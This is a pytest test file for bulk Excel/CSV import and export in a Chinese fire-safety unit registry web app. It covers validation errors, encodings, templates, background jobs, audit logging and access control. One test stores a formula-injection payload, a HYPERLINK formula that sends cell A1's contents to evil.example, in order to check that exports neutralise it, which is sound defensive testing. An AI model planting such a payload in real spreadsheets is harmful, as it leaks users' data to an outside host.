"""Bulk import and export of the two libraries, as a supervisor (and a clerk fixing a file) would use them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import re
import time
import zipfile

import openpyxl
import pytest
from sqlalchemy import func, select

from tests.factories import make_org, make_unit, make_user
from webapp import storage
from webapp.audit import AuditEvent
from webapp.auth.models import Role
from webapp.extensions import db as _db
from webapp.registry.imports import queries, readers, services
from webapp.registry.models import ImportJob, RiskLevel, Unit, UnitClass, UnitStatus
from webapp.registry.units.columns import UNIT_COLUMNS, clean_unit
from webapp.registry.validation import generate_uscc

HEADERS = [c.header for c in UNIT_COLUMNS]
_rng = random.Random(7)


@pytest.fixture(autouse=True)
def inline_imports(app, monkeypatch):
    """Run imports inline (the background thread is tested on its own below)."""
    monkeypatch.setitem(app.config, "IMPORT_BACKGROUND", False)


@pytest.fixture
def supervisor(db):
    org = make_org(code="yanshi", name="偃师区消防救援大队")
    user = make_user(org, username="zhang", display_name="张队长")
    db.session.commit()
    return user


def uscc() -> str:
    return generate_uscc(_rng)


def digits_uscc() -> str:
    while True:
        code = uscc()
        if code.isdigit():
            return code


def xlsx(rows: list[list]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def csv_bytes(rows: list[list], encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def row(name: str, code: str | None, address: str = "偃师区商城路1号", **extra) -> list:
    values = {"单位名称": name, "统一社会信用代码": code, "地址": address, **extra}
    return [values.get(h) for h in HEADERS]


def upload(client, data: bytes, filename: str = "units.xlsx", org=None, kind: str = "units"):
    form = {"file": (io.BytesIO(data), filename)}
    if org is not None:
        form["org_id"] = str(org.id)
    return client.post(f"/registry/{kind}/import", data=form, content_type="multipart/form-data")


def import_ok(client, data: bytes, org, filename: str = "units.xlsx", kind: str = "units") -> ImportJob:
    resp = upload(client, data, filename, org, kind)
    assert resp.status_code == 302, resp.get_data(as_text=True)
    job = latest_job()
    assert job.status == "done", job.errors
    return job


def latest_job() -> ImportJob:
    _db.session.expire_all()
    return _db.session.execute(select(ImportJob).order_by(ImportJob.id.desc()).limit(1)).scalar_one()


def unit_count() -> int:
    return _db.session.execute(select(func.count(Unit.id))).scalar_one()


def events(action: str) -> list[AuditEvent]:
    return list(_db.session.execute(select(AuditEvent).where(AuditEvent.action == action)).scalars())


# ------------------------------------------------------------------------------- all or nothing


def test_bad_rows_are_all_reported_with_row_numbers_and_nothing_is_written(client, db, login_as, supervisor):
    login_as(supervisor)
    org = supervisor.org
    good = [uscc() for _ in range(4)]
    bad_code = good[0][:-1] + ("0" if good[0][-1] != "0" else "1")
    rows = [
        HEADERS,
        row("洛阳一号商贸有限公司", good[0]),
        row("洛阳二号商贸有限公司", bad_code),  # row 3: wrong check digit
        row("洛阳三号商贸有限公司", good[1]),
        row("", good[2]),  # row 5: no name
        row("洛阳五号商贸有限公司", good[3]),
        row("洛阳六号商贸有限公司", None, 风险等级="紫色"),  # row 7: unknown risk level
    ]
    resp = upload(client, xlsx(rows), org=org)
    assert resp.status_code == 302
    page = client.get(resp.headers["Location"])
    body = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "未导入任何数据：发现3处错误" in body
    assert "统一社会信用代码校验位错误" in body
    assert "请填写单位名称" in body
    assert "风险等级应为" in body
    job = latest_job()
    errors, _warnings = queries.job_entries(job)
    assert [(e["row"], e["column"]) for e in errors] == [(3, "统一社会信用代码"), (5, "单位名称"), (7, "风险等级")]
    assert job.status == "failed"
    assert unit_count() == 0
    assert events("import.units") == []

    # the clerk downloads the bad rows with the reasons next to them …
    resp = client.get(f"/registry/imports/{job.public_id}/errors.xlsx")
    assert resp.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0]
    sheet = [list(r) for r in ws.iter_rows(values_only=True)]
    assert sheet[0][:3] == ["错误说明", "原行号", "单位名称"]
    assert [r[1] for r in sheet[1:]] == [3, 5, 7]
    assert "校验位错误" in sheet[1][0]

    # … fixes them and uploads again: every row goes in.
    rows[2] = row("洛阳二号商贸有限公司", uscc())
    rows[4][0] = "洛阳四号商贸有限公司"
    rows[6] = row("洛阳六号商贸有限公司", None, 风险等级="红")
    job = import_ok(client, xlsx(rows), org)
    assert (job.total_rows, job.created_count, job.updated_count) == (6, 6, 0)
    assert unit_count() == 6
    six = db.session.execute(select(Unit).where(Unit.name == "洛阳六号商贸有限公司")).scalar_one()
    assert six.risk_level == RiskLevel.RED and six.uscc is None and six.org_id == org.id


def test_reimport_updates_matched_units_instead_of_duplicating(client, db, login_as, supervisor):
    login_as(supervisor)
    org = supervisor.org
    codes = [uscc() for _ in range(3)]
    rows = [HEADERS, *(row(f"单位{i}", c, f"商城路{i}号") for i, c in enumerate(codes))]
    rows.append(row("无代码的小店", None, "商城路9号", 单位类别="九小场所"))
    import_ok(client, xlsx(rows), org)
    assert unit_count() == 4

    same = import_ok(client, xlsx(rows), org)
    assert (same.created_count, same.updated_count) == (0, 0)
    assert unit_count() == 4

    rows[2][HEADERS.index("地址")] = "商城路100号"
    rows[4][HEADERS.index("联系电话")] = "0379-67713119"  # the shop without USCC: matched by name + address
    job = import_ok(client, xlsx(rows), org)
    assert (job.created_count, job.updated_count) == (0, 2)
    assert unit_count() == 4
    moved = db.session.execute(select(Unit).where(Unit.uscc == codes[1])).scalar_one()
    assert moved.address == "商城路100号"
    shop = db.session.execute(select(Unit).where(Unit.name == "无代码的小店")).scalar_one()
    assert shop.contact_phone == "0379-67713119"
    _errors, warnings = queries.job_entries(job)
    assert any(w["row"] == 5 and "按名称和地址匹配到已有记录" in w["message"] for w in warnings)

    ev = events("import.units")[-1]
    data = ev.payload
    assert data["file"] == "units.xlsx"
    assert len(data["sha256"]) == 64
    assert (data["rows"], data["created"], data["updated"], data["unchanged"]) == (4, 0, 2, 2)
    assert data["updated_ids"] == services.compact_ids([moved.id, shop.id])
    assert data["changes"][str(moved.id)] == {"address": ["商城路1号", "商城路100号"]}
    assert ev.subject_type == "import_job" and ev.org_id == org.id and ev.actor_id == supervisor.id


def test_blank_cells_and_missing_columns_never_erase_registered_data(client, db, login_as, supervisor):
    login_as(supervisor)
    code = uscc()
    unit = make_unit(
        supervisor.org,
        uscc=code,
        safety_person="李四",
        risk_level=RiskLevel.RED,
        crowded=True,
        unit_class=UnitClass.KEY,
    )
    db.session.commit()
    # a market-regulation export: only name, code and a new address; blank risk level
    job = import_ok(
        client,
        xlsx([["市场主体名称", "统一社会信用代码", "住所", "风险等级"], [unit.name, code, "新地址1号", None]]),
        supervisor.org,
    )
    assert job.updated_count == 1
    db.session.refresh(unit)
    assert unit.address == "新地址1号"
    assert (unit.safety_person, unit.risk_level, unit.crowded) == ("李四", RiskLevel.RED, True)


def test_duplicate_codes_in_the_file_and_units_of_other_organisations_are_errors(client, db, login_as, supervisor):
    login_as(supervisor)
    other = make_org(code="luolong", name="洛龙区消防救援大队")
    theirs = make_unit(other, name="别人的单位")
    db.session.commit()
    code = uscc()
    rows = [
        HEADERS,
        row("甲公司", code),
        row("乙公司", theirs.uscc),
        row("丙公司", code),
        row("丁店", None, "同一地址"),
        row("丁店", None, "同一地址"),
    ]
    upload(client, xlsx(rows), org=supervisor.org)
    job = latest_job()
    errors, _ = queries.job_entries(job)
    messages = {e["row"]: e["message"] for e in errors}
    assert messages[3] == "该统一社会信用代码已登记在其他机构的名录库中，无权修改"
    assert messages[4] == "与第2行重复"
    assert messages[6].startswith("与第5行重复")
    assert job.status == "failed"
    db.session.refresh(theirs)
    assert theirs.name == "别人的单位"
    assert unit_count() == 1


def test_a_supervisor_of_the_parent_updates_a_child_units_record_in_place(client, db, login_as):
    zhidui = make_org(code="luoyang", name="洛阳市消防救援支队")
    dadui = make_org(code="yanshi", name="偃师区消防救援大队", parent=zhidui)
    boss = make_user(zhidui)
    unit = make_unit(dadui, name="旧名称")
    db.session.commit()
    login_as(boss)
    job = import_ok(client, xlsx([HEADERS, row("新名称", unit.uscc, unit.address)]), zhidui)
    assert job.updated_count == 1
    db.session.refresh(unit)
    assert unit.name == "新名称" and unit.org_id == dadui.id
    _, warnings = queries.job_entries(job)
    assert any("偃师区消防救援大队" in w["message"] for w in warnings)


def test_a_failed_write_rolls_everything_back(client, db, login_as, supervisor, monkeypatch):
    login_as(supervisor)
    real_write = services.write

    def write_then_fail(plan):
        real_write(plan)  # rows are inserted into the transaction …
        raise RuntimeError("disk full")  # … and then something breaks

    monkeypatch.setattr(services, "write", write_then_fail)
    upload(client, xlsx([HEADERS, row("甲公司", uscc()), row("乙公司", uscc())]), org=supervisor.org)
    job = latest_job()
    assert job.status == "failed"
    assert "已全部撤销" in queries.job_entries(job)[0][0]["message"]
    assert unit_count() == 0
    assert events("import.units") == []


# ------------------------------------------------------------------------------------- file shapes


def test_csv_saved_by_chinese_excel_in_gbk_is_read(client, db, login_as, supervisor):
    login_as(supervisor)
    rows = [HEADERS, row("偃师区豫鑫商贸有限公司", uscc(), "偃师区首阳山街道", 单位类别="重点", 人员密集场所="是")]
    import_ok(client, csv_bytes(rows, "gbk"), supervisor.org, filename="名录.csv")
    unit = db.session.execute(select(Unit)).scalar_one()
    assert unit.name == "偃师区豫鑫商贸有限公司"
    assert unit.address == "偃师区首阳山街道"
    assert unit.unit_class == UnitClass.KEY and unit.crowded


def test_csv_in_utf8_with_bom_is_read(client, db, login_as, supervisor):
    login_as(supervisor)
    data = b"\xef\xbb\xbf" + csv_bytes([HEADERS, row("豫鑫商贸", uscc())])
    import_ok(client, data, supervisor.org, filename="units.csv")
    assert db.session.execute(select(Unit.name)).scalar_one() == "豫鑫商贸"


def test_numbers_in_cells_are_read_as_the_text_people_typed(client, db, login_as, supervisor):
    login_as(supervisor)
    rows = [HEADERS, row("数字公司", uscc(), 联系电话=13800138000, 投诉举报次数=2.0, 严重违法违规记录=True)]
    import_ok(client, xlsx(rows), supervisor.org)
    unit = db.session.execute(select(Unit)).scalar_one()
    assert unit.contact_phone == "13800138000"
    assert unit.complaint_count == 2
    assert unit.serious_violation is True


def test_a_code_excel_rounded_to_15_digits_is_explained(client, db, login_as, supervisor):
    login_as(supervisor)
    code = digits_uscc()
    # Excel (and openpyxl) store an 18-digit number as a double: the last digits are lost
    upload(client, xlsx([HEADERS, row("数字公司", int(code))]), org=supervisor.org)
    errors, _ = queries.job_entries(latest_job())
    assert len(errors) == 1
    assert "Excel 只保留15位有效数字" in errors[0]["message"]


def test_unknown_columns_are_ignored_and_aliases_and_a_title_row_are_understood(client, db, login_as, supervisor):
    login_as(supervisor)
    code = uscc()
    rows = [
        ["偃师区市场主体名录（2026年11月）"],
        ["序号", " 企业名称 ", "统一社会信用代码", "住所(经营场所)", "登记机关", "经营者"],
        [1, "豫鑫商贸", code, "商城路1号", "偃师区市场监督管理局", "王五"],
    ]
    job = import_ok(client, xlsx(rows), supervisor.org)
    unit = db.session.execute(select(Unit)).scalar_one()
    assert (unit.name, unit.uscc, unit.address, unit.legal_rep) == ("豫鑫商贸", code, "商城路1号", "王五")
    _, warnings = queries.job_entries(job)
    assert {(w["row"], w["column"]) for w in warnings} == {(2, "序号"), (2, "登记机关")}
    page = client.get(f"/registry/imports/{job.public_id}").get_data(as_text=True)
    assert "未识别的列，已忽略" in page


def test_a_file_without_the_name_column_is_refused(client, db, login_as, supervisor):
    login_as(supervisor)
    upload(client, xlsx([["统一社会信用代码", "地址"], [uscc(), "商城路1号"]]), org=supervisor.org)
    job = latest_job()
    assert job.status == "failed"
    errors, _ = queries.job_entries(job)
    assert errors == [{"row": 1, "column": "单位名称", "message": "缺少必填列“单位名称”"}]
    page = client.get(f"/registry/imports/{job.public_id}").get_data(as_text=True)
    assert "缺少必填列“单位名称”" in page


@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        ("units.xls", b"\xd0\xcf\x11\xe0", "不支持旧版 .xls 文件"),
        ("units.pdf", b"%PDF-1.4", "只支持 .xlsx 或 .csv 文件"),
        ("units.xlsx", b"not a zip", "不是有效的 .xlsx 文件"),
    ],
)
def test_other_files_are_refused_with_a_clear_message(client, db, login_as, supervisor, filename, data, message):
    login_as(supervisor)
    resp = upload(client, data, filename, supervisor.org)
    assert resp.status_code == 422
    assert message in resp.get_data(as_text=True)
    assert _db.session.execute(select(func.count(ImportJob.id))).scalar_one() == 0


def test_too_many_rows_is_refused_before_anything_runs(app, client, db, login_as, supervisor, monkeypatch):
    login_as(supervisor)
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 3)
    rows = [HEADERS, *(row(f"单位{i}", uscc()) for i in range(5))]
    resp = upload(client, xlsx(rows), org=supervisor.org)
    assert resp.status_code == 422
    assert "超过单次导入上限3行" in resp.get_data(as_text=True)
    assert unit_count() == 0


def test_a_file_over_the_size_limit_is_refused(app, client, db, login_as, supervisor, monkeypatch):
    login_as(supervisor)
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 1000)
    resp = upload(client, b"x" * 5000, "big.csv", supervisor.org)
    assert resp.status_code == 413
    assert "文件太大" in resp.get_data(as_text=True)


# ------------------------------------------------------------------------------------ templates


def test_the_excel_template_has_the_columns_an_example_and_instructions(client, db, login_as, supervisor):
    login_as(supervisor)
    resp = client.get("/registry/units/template.xlsx")
    assert resp.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(resp.data))
    first = [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]
    assert first[0] == HEADERS
    example = {c.field: v for c, v in zip(UNIT_COLUMNS, first[1], strict=True)}
    _values, errors = clean_unit(example)
    assert errors == {}
    assert wb.sheetnames[1] == "填写说明"
    help_rows = [r for r in wb["填写说明"].iter_rows(values_only=True) if r and r[0]]
    assert any(r[0] == "单位类别" and "九小场所" in r[3] for r in help_rows)

    # a clerk who forgets to delete the example row is told so
    upload(client, resp.data, "模板.xlsx", supervisor.org)
    errors, _ = queries.job_entries(latest_job())
    assert errors[0]["message"] == "这是导入模板中的示例行，请删除后再导入"


def test_the_csv_template_opens_in_excel_with_chinese_headers(client, db, login_as, supervisor):
    login_as(supervisor)
    resp = client.get("/registry/units/template.csv")
    assert resp.status_code == 200
    assert resp.data.startswith(b"\xef\xbb\xbf")
    assert resp.data.decode("utf-8-sig").splitlines()[0] == ",".join(HEADERS)


def test_the_import_page_documents_the_columns(client, db, login_as, supervisor):
    login_as(supervisor)
    body = client.get("/registry/units/import").get_data(as_text=True)
    for text in ("批量导入", "单位名称", "市场主体名称", "下载 Excel 模板", 'accept=".xlsx,.csv', "全部无误才导入"):
        assert text in body


# --------------------------------------------------------------------------------------- export


def test_export_imports_again_unchanged(client, db, login_as, supervisor):
    login_as(supervisor)
    org = supervisor.org
    make_unit(
        org,
        name="重点单位",
        unit_class=UnitClass.KEY,
        crowded=True,
        risk_level=RiskLevel.RED,
        complaint_count=3,
        serious_violation=True,
        contact_phone="13800138000",
        legal_rep="赵六",
    )
    make_unit(org, name="无代码单位", uscc=None, address=None, unit_class=None)
    make_unit(org, name="九小场所", unit_class=UnitClass.NINE_SMALL, risk_level=RiskLevel.GREEN)
    db.session.commit()
    resp = client.get("/registry/units/export.xlsx")
    assert resp.status_code == 200
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = list(openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0].iter_rows(values_only=True))
    assert list(sheet[0]) == HEADERS
    assert len(sheet) == 4
    ev = events("export.units")
    assert len(ev) == 1 and ev[0].payload["rows"] == 3

    job = import_ok(client, resp.data, org, filename="export.xlsx")
    assert (job.total_rows, job.created_count, job.updated_count) == (3, 0, 0)
    assert unit_count() == 3


def test_export_honours_the_list_filters_and_the_organisation(client, db, login_as, supervisor):
    login_as(supervisor)
    org = supervisor.org
    make_unit(org, name="豫鑫商贸有限公司")
    make_unit(org, name="洛阳宾馆")
    make_unit(org, name="已关门的豫鑫分店", status=UnitStatus.CLOSED)
    make_unit(make_org(), name="别的大队的豫鑫")
    db.session.commit()

    def names(query: str) -> set[str]:
        resp = client.get("/registry/units/export.xlsx" + query)
        assert resp.status_code == 200
        ws = openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0]
        return {r[0] for r in list(ws.iter_rows(values_only=True))[1:]}

    assert names("") == {"豫鑫商贸有限公司", "洛阳宾馆"}  # like the list: active units by default
    assert names("?q=豫鑫") == {"豫鑫商贸有限公司"}
    assert names("?q=豫鑫&status=all") == {"豫鑫商贸有限公司", "已关门的豫鑫分店"}
    assert names("?status=closed") == {"已关门的豫鑫分店"}


def test_a_formula_typed_as_a_unit_name_is_exported_as_text_and_imports_again(client, db, login_as, supervisor):
    """The review's unit name is text in the export (no formula in the file, Excel's quote prefix on the cell);
    an address starting with - and an industry with + keep their text; the file imports again unchanged."""
    login_as(supervisor)
    org = supervisor.org
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    make_unit(org, name=evil, industry="+餐饮", address="-1层商铺", legal_rep="@李", complaint_count=2)
    db.session.commit()
    resp = client.get("/registry/units/export.xlsx")
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
        assert not re.search(r"<f[\s>]", z.read("xl/worksheets/sheet1.xml").decode())
    ws = openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0]
    cells = {c.value: c for c in ws[2] if c.value is not None}
    for text in (evil, "+餐饮", "-1层商铺", "@李"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert cells[2].data_type == "n"  # 投诉次数 stays a number

    job = import_ok(client, resp.data, org, filename="export.xlsx")
    assert (job.total_rows, job.created_count, job.updated_count) == (1, 0, 0)
    unit = _db.session.execute(select(Unit)).scalar_one()
    assert (unit.name, unit.industry, unit.address, unit.legal_rep) == (evil, "+餐饮", "-1层商铺", "@李")


# --------------------------------------------------------------------------------- job page, thread


def test_the_job_page_polls_while_running_and_stops_when_done(client, db, login_as, supervisor):
    login_as(supervisor)
    job = ImportJob(
        kind="units",
        org_id=supervisor.org_id,
        filename="a.xlsx",
        status="running",
        total_rows=5000,
        processed_rows=2000,
        created_by_id=supervisor.id,
    )
    db.session.add(job)
    db.session.commit()
    resp = client.get(f"/registry/imports/{job.public_id}", headers={"HX-Request": "true"})
    body = resp.get_data(as_text=True)
    assert 'hx-trigger="every 1s"' in body
    assert '<progress aria-label="导入进度" max="5000" value="2000">' in body
    assert "<html" not in body  # the fragment only
    job.status, job.total_rows, job.created_count = "done", 5000, 5000
    db.session.commit()
    body = client.get(f"/registry/imports/{job.public_id}", headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "hx-trigger" not in body
    assert "导入成功" in body


def test_a_job_no_worker_took_for_half_an_hour_is_marked_failed(client, db, login_as, supervisor):
    login_as(supervisor)
    job = ImportJob(
        kind="units",
        org_id=supervisor.org_id,
        filename="a.xlsx",
        status="pending",
        created_by_id=supervisor.id,
        created_at=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=31),
    )
    db.session.add(job)
    db.session.commit()
    body = client.get(f"/registry/imports/{job.public_id}").get_data(as_text=True)
    assert "导入超过30分钟仍未完成" in body
    db.session.refresh(job)
    assert job.status == "failed"


def dead_worker_job(supervisor, minutes_ago: int = 2) -> ImportJob:
    """An import as a worker killed mid-run leaves it: running, its file on disk, no sign of life for a while."""
    job = ImportJob(
        kind="units",
        org_id=supervisor.org_id,
        filename="a.xlsx",
        status="running",
        total_rows=5000,
        processed_rows=2000,
        created_by_id=supervisor.id,
        created_at=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=minutes_ago),
    )
    _db.session.add(job)
    _db.session.commit()
    storage.put_object(services.job_upload(job), xlsx([HEADERS, row("甲", uscc())]))
    return job


def test_finding_6_a_job_whose_worker_died_is_marked_failed_within_a_minute(client, db, login_as, supervisor):
    login_as(supervisor)
    job = dead_worker_job(supervisor)
    name = services.job_upload(job)
    body = client.get(f"/registry/imports/{job.public_id}", headers={"HX-Request": "true"}).get_data(as_text=True)
    assert "hx-trigger" not in body  # no longer polling
    assert "后台处理中断" in body and "未导入任何数据" in body and "请重新上传" in body
    assert latest_job().status == "failed" and latest_job().finished_at is not None
    assert not storage.object_exists(name)  # the upload is deleted with the job's end


def test_finding_6_the_minute_check_fails_dead_jobs_without_anyone_looking(db, supervisor):
    from webapp import worker

    job = dead_worker_job(supervisor)
    alive = dead_worker_job(supervisor, minutes_ago=0)  # its worker is still at it
    worker.check_jobs.call_local()
    assert _db.session.get(ImportJob, job.id).status == "failed"
    assert _db.session.get(ImportJob, alive.id).status == "running"
    assert not storage.object_exists(services.job_upload(job)) and storage.object_exists(services.job_upload(alive))


def test_finding_6_uploaded_files_are_deleted_when_the_job_ends(client, db, login_as, supervisor):
    login_as(supervisor)
    before = set(storage.list_objects("imports/"))
    done = import_ok(client, xlsx([HEADERS, row("甲", uscc())]), supervisor.org)
    assert not storage.object_exists(services.job_upload(done))
    upload(client, xlsx([HEADERS, row("乙", "不是代码")]), org=supervisor.org)
    failed = latest_job()
    assert failed.status == "failed"
    assert not storage.object_exists(services.job_upload(failed))
    assert set(storage.list_objects("imports/")) - before == {services.errors_object(failed)}  # only its bad rows


def test_a_large_import_runs_in_the_background_with_progress(app, client, db, login_as, supervisor, monkeypatch):
    monkeypatch.setitem(app.config, "IMPORT_BACKGROUND", True)
    login_as(supervisor)
    rows = [HEADERS, *(row(f"单位{i}", uscc(), f"商城路{i}号") for i in range(2500))]
    resp = upload(client, xlsx(rows), org=supervisor.org)
    assert resp.status_code == 302
    url = resp.headers["Location"]
    seen = []
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        body = client.get(url, headers={"HX-Request": "true"}).get_data(as_text=True)
        seen.append(body)
        if "导入成功" in body or "未导入任何数据" in body:
            break
        time.sleep(0.05)
    assert "导入成功：2500行已全部导入" in seen[-1]
    assert unit_count() == 2500
    job = latest_job()
    assert job.processed_rows == job.total_rows == job.created_count == 2500


# ---------------------------------------------------------------------------------------- access


def test_inspectors_and_anonymous_users_cannot_import(client, db, login_as):
    org = make_org()
    inspector = make_user(org, role=Role.INSPECTOR)
    db.session.commit()
    for url in (
        "/registry/units/import",
        "/registry/units/export.xlsx",
        "/registry/units/template.xlsx",
        "/registry/inspectors/import",
    ):
        resp = client.get(url)
        assert resp.status_code == 302 and "/login" in resp.headers["Location"], url
    login_as(inspector)
    for url in (
        "/registry/units/import",
        "/registry/units/export.xlsx",
        "/registry/units/template.xlsx",
        "/registry/inspectors/import",
    ):
        assert client.get(url).status_code == 403, url
    assert upload(client, xlsx([HEADERS, row("甲", uscc())]), org=org).status_code == 403
    assert unit_count() == 0


def test_another_organisations_job_is_not_found(client, db, login_as, supervisor):
    other = make_org(code="luolong")
    other_boss = make_user(other)
    db.session.commit()
    login_as(other_boss)
    job = import_ok(client, xlsx([HEADERS, row("甲", uscc())]), other)
    client.post("/logout")
    login_as(supervisor)
    assert client.get(f"/registry/imports/{job.public_id}").status_code == 404
    assert client.get(f"/registry/imports/{job.public_id}/errors.xlsx").status_code == 404


def test_data_only_lands_in_an_organisation_the_user_manages(client, db, login_as, supervisor):
    other = make_org(code="luolong", name="洛龙区消防救援大队")
    db.session.commit()
    login_as(supervisor)
    page = client.get("/registry/units/import").get_data(as_text=True)
    assert "偃师区消防救援大队" in page and "洛龙区消防救援大队" not in page
    resp = upload(client, xlsx([HEADERS, row("甲", uscc())]), org=other)
    assert resp.status_code == 422
    assert "请选择您管理的机构" in resp.get_data(as_text=True)
    assert unit_count() == 0


# ------------------------------------------------------------------------------------------ CLI


@pytest.fixture
def cli(app, runner):
    from webapp.registry.cli import COMMANDS

    for command in COMMANDS:
        if command.name not in app.cli.commands:
            app.cli.add_command(command)
    return runner


def test_cli_imports_a_file_and_prints_every_error(cli, db, tmp_path):
    org = make_org(code="yanshi")
    db.session.commit()
    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes([HEADERS, row("甲", "123"), row("", uscc())]))
    result = cli.invoke(args=["import-units", "--org", "yanshi", str(bad)])
    assert result.exit_code == 1
    assert "第2行 [统一社会信用代码] 统一社会信用代码应为18位（当前3位）" in result.output
    assert "第3行 [单位名称] 请填写单位名称" in result.output
    assert unit_count() == 0

    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([HEADERS, row("甲", uscc()), row("乙", uscc())]))
    result = cli.invoke(args=["import-units", "--org", "yanshi", str(good)])
    assert result.exit_code == 0, result.output
    assert "导入完成：2行，新增2，更新0，无变化0" in result.output
    assert unit_count() == 2
    assert db.session.execute(select(Unit.org_id).distinct()).scalars().all() == [org.id]
    ev = events("import.units")
    assert len(ev) == 1 and ev[0].actor_name == "system"

    assert cli.invoke(args=["import-units", "--org", "nope", str(good)]).exit_code == 1


def test_compact_ids():
    assert services.compact_ids([5, 1, 2, 3, 9, 10]) == "1-3,5,9-10"
    assert services.compact_ids([]) == ""


def test_header_matching_normalises_width_and_spaces():
    header = readers.match_header(UNIT_COLUMNS, ("单位 名称", "住所（经营场所）", "统一社会信用代码*"), 1)
    assert header.fields == {0: "name", 1: "address", 2: "uscc"}
    assert json.dumps(header.ignored) == "[]"


# ------------------------------------------------------------------------------------ large files


def xlsx_without_dimension(rows: list[list]) -> bytes:
    """As openpyxl's write-only mode and many exporters save it: no <dimension> element."""
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("units")
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_with_wrong_dimension(rows: list[list]) -> bytes:
    """A file whose <dimension> claims fewer rows than it has (some exporters do this)."""
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(xlsx(rows)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                assert b'<dimension ref="' in data
                start = data.index(b'<dimension ref="') + len(b'<dimension ref="')
                data = data[:start] + b"A1:B2" + data[data.index(b'"', start) :]
            dst.writestr(item, data)
    return out.getvalue()


@pytest.mark.parametrize("make", [xlsx, xlsx_without_dimension, xlsx_with_wrong_dimension])
def test_every_row_of_an_xlsx_is_counted_and_imported_whatever_its_dimension_says(
    client, db, login_as, supervisor, make, tmp_path
):
    login_as(supervisor)
    org = supervisor.org
    rows = [HEADERS, *(row(f"单位{i}", uscc(), f"商城路{i}号") for i in range(25))]
    data = make(rows)
    path = tmp_path / "units.xlsx"
    path.write_bytes(data)
    estimate = readers.estimate_rows(str(path), "units.xlsx")
    if make is xlsx_with_wrong_dimension:
        assert estimate == 1  # what the file claims; the import still reads to the end
    else:
        assert estimate == 25
    job = import_ok(client, data, org)
    assert (job.total_rows, job.created_count, job.updated_count) == (25, 25, 0)
    assert unit_count() == 25


def test_too_many_rows_in_an_xlsx_without_dimension_is_refused(app, client, db, login_as, supervisor, monkeypatch):
    login_as(supervisor)
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 3)
    rows = [HEADERS, *(row(f"单位{i}", uscc()) for i in range(5))]
    resp = upload(client, xlsx_without_dimension(rows), org=supervisor.org)
    assert resp.status_code == 422
    assert "超过单次导入上限3行" in resp.get_data(as_text=True)
    assert unit_count() == 0


def test_imported_units_get_the_ids_the_audit_names_and_later_units_new_ones(client, db, login_as, supervisor):
    login_as(supervisor)
    org = supervisor.org
    codes = [uscc() for _ in range(7)]
    earlier = make_unit(org, name="早已登记的单位")
    db.session.commit()
    job = import_ok(
        client, xlsx([HEADERS, *(row(f"导入单位{i}", c, f"商城路{i}号") for i, c in enumerate(codes))]), org
    )
    assert job.created_count == 7
    by_code = dict(db.session.execute(select(Unit.uscc, Unit.id).where(Unit.uscc.in_(codes))).all())
    assert len(by_code) == 7 and earlier.id not in by_code.values()
    assert events("import.units")[-1].payload["created_ids"] == services.compact_ids(by_code.values())
    # a unit added by hand afterwards gets a fresh id (the ids the import used are taken)
    later = make_unit(org, name="后来登记的单位")
    db.session.commit()
    assert later.id not in by_code.values() and later.id > max(by_code.values())


def test_a_large_export_writes_the_chinese_labels_of_every_row(client, db, login_as, supervisor):
    login_as(supervisor)
    org = supervisor.org
    classes = [UnitClass.KEY, UnitClass.GENERAL, UnitClass.NINE_SMALL, UnitClass.OTHER]
    risks = [RiskLevel.RED, RiskLevel.YELLOW, RiskLevel.BLUE, RiskLevel.GREEN]
    for i in range(40):
        make_unit(org, name=f"单位{i}", unit_class=classes[i % 4], risk_level=risks[i % 4])
    db.session.commit()
    resp = client.get("/registry/units/export.xlsx?status=all")
    sheet = list(openpyxl.load_workbook(io.BytesIO(resp.data)).worksheets[0].iter_rows(values_only=True))
    at_class, at_risk = HEADERS.index("单位类别"), HEADERS.index("风险等级")
    assert len(sheet) == 41
    assert {r[at_class] for r in sheet[1:]} == {"消防安全重点单位", "一般单位", "九小场所", "其他单位"}
    assert {r[at_risk] for r in sheet[1:]} == {"红（重大风险）", "黄（较大风险）", "蓝（一般风险）", "绿（低风险）"}


def test_regions_of_imported_units_are_offered_in_the_filter_at_once(client, db, login_as, supervisor):
    login_as(supervisor)
    org = supervisor.org
    make_unit(org, name="已有单位", region="商城街道")
    db.session.commit()
    assert '<option value="岳滩镇"' not in client.get("/registry/units").get_data(as_text=True)
    import_ok(client, xlsx([HEADERS, row("新导入单位", uscc(), 所属区域="岳滩镇")]), org)
    body = client.get("/registry/units").get_data(as_text=True)
    assert '<option value="岳滩镇"' in body and '<option value="商城街道"' in body
